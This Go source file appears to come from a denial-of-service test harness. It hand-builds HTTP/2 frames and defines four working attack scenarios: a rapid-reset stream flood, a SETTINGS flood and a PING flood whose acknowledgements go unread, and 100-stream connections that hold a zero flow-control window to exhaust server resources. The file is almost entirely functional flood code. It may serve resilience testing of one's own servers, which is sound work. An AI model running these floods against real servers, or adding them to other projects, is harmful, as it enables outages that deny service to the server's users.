package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/url"
	"sync/atomic"
)

// The attacks on HTTP/2 write its frames themselves, since no client writes such streams.

var http2Scenarios = []scenario{
	{
		name: "h2-reset", about: "HTTP/2: 20,000 streams a second that are reset at once", setup: setup{tls: true},
		attack: func(ctx context.Context, a *attacker) {
			request := headerBlock(a.address, a.base+"/"+slow(6))
			a.flood(ctx, 2, 20_000, true, func(n uint32) []byte {
				return frame(frame(nil, frameHeaders, endStream|endHeaders, 2*n+1, request), frameReset, 0, 2*n+1, []byte{0, 0, 0, 8}) // CANCEL
			})
		},
	},
	{
		name: "h2-settings", about: "HTTP/2: 20,000 SETTINGS a second, whose acknowledgements are not read", setup: setup{tls: true},
		attack: func(ctx context.Context, a *attacker) {
			a.flood(ctx, 2, 20_000, false, func(uint32) []byte { return frame(nil, frameSettings, 0, 0, nil) })
		},
	},
	{
		name: "h2-ping", about: "HTTP/2: 20,000 PING a second, whose answers are not read", setup: setup{tls: true},
		attack: func(ctx context.Context, a *attacker) {
			a.flood(ctx, 2, 20_000, false, func(n uint32) []byte {
				return frame(nil, framePing, 0, 0, binary.BigEndian.AppendUint64(nil, uint64(n)))
			})
		},
	},
	{
		name: "h2-streams", about: "HTTP/2: 40 connections with 100 streams each that ask for pages of 2.6 MB and leave no window", setup: setup{tls: true},
		attack: func(ctx context.Context, a *attacker) {
			request := headerBlock(a.address, a.base+"/"+bigPage)
			a.hold(ctx, a.share(40), http2, true, func(ctx context.Context, c net.Conn, _ int) string {
				var streams []byte
				for n := range uint32(100) {
					streams = frame(streams, frameHeaders, endStream|endHeaders, 2*n+1, request)
				}
				if begin(c, 0) != nil {
					return "closed"
				}
				if _, err := c.Write(streams); err != nil {
					return "closed"
				}
				a.count("100 streams")
				go func() { pause(ctx, unreadFor); _ = c.Close() }()
				return readFrames(c)
			})
		},
	},
}

// The frames of RFC 9113 that the attacks use, with their flags.
const (
	frameHeaders  = 0x1
	frameReset    = 0x3
	frameSettings = 0x4
	framePing     = 0x6
	frameGoAway   = 0x7

	endStream  = 0x1
	endHeaders = 0x4
)

// frame appends a frame.
func frame(to []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), typ, flags)
	to = binary.BigEndian.AppendUint32(to, stream)
	return append(to, payload...)
}

// headerBlock returns the header of a GET request in HPACK, without an entry in the table.
func headerBlock(authority, target string) []byte {
	path := target
	if u, err := url.Parse(target); err == nil {
		path = u.RequestURI()
	}
	block := []byte{0x80 | 2, 0x80 | 7} // :method GET, :scheme https
	block = hpackString(append(block, 4), path)
	return hpackString(append(block, 1), authority)
}

// hpackString appends a string without Huffman coding.
func hpackString(to []byte, text string) []byte {
	n := len(text)
	if n < 0x7f {
		return append(append(to, byte(n)), text...)
	}
	to = append(to, 0x7f)
	return append(binary.AppendUvarint(to, uint64(n-0x7f)), text...)
}

// begin sends the preface of a connection. The client lets the server send a number of
// bytes on each stream.
func begin(c net.Conn, window uint32) error {
	settings := binary.BigEndian.AppendUint32([]byte{0, 4}, window) // SETTINGS_INITIAL_WINDOW_SIZE
	_, err := c.Write(frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frameSettings, 0, 0, settings))
	return err
}

// readFrames reads frames until the connection ends, and returns how it ended.
func readFrames(c io.Reader) string {
	end := "closed"
	for {
		head := make([]byte, 9)
		if _, err := io.ReadFull(c, head); err != nil {
			return end
		}
		size := int64(head[0])<<16 | int64(head[1])<<8 | int64(head[2])
		if head[3] == frameGoAway && size >= 8 {
			payload := make([]byte, size)
			if _, err := io.ReadFull(c, payload); err != nil {
				return end
			}
			end = fmt.Sprintf("GOAWAY %d", binary.BigEndian.Uint32(payload[4:]))
			continue
		}
		if _, err := io.CopyN(io.Discard, c, size); err != nil {
			return end
		}
	}
}

// floodBatch is the number of messages that a flood writes at once.
const floodBatch = 100

// flood sends messages on a number of connections, all attackers together a number in a
// second. It reads what the server sends, or nothing.
func (a *attacker) flood(ctx context.Context, connections, perSecond int, reads bool, message func(n uint32) []byte) {
	pace := a.pace(perSecond, floodBatch)
	a.hold(ctx, connections, http2, !reads, func(ctx context.Context, c net.Conn, _ int) string {
		if begin(c, 1<<16) != nil {
			return "closed"
		}
		var end atomic.Value
		end.Store("closed")
		if reads {
			go func() { end.Store(readFrames(c)) }()
		}
		for n := uint32(0); pace.WaitN(ctx, floodBatch) == nil; n += floodBatch {
			var batch []byte
			for i := range uint32(floodBatch) {
				batch = append(batch, message(n+i)...)
			}
			if _, err := c.Write(batch); err != nil {
				break
			}
			a.count("batches")
		}
		return end.Load().(string)
	})
}
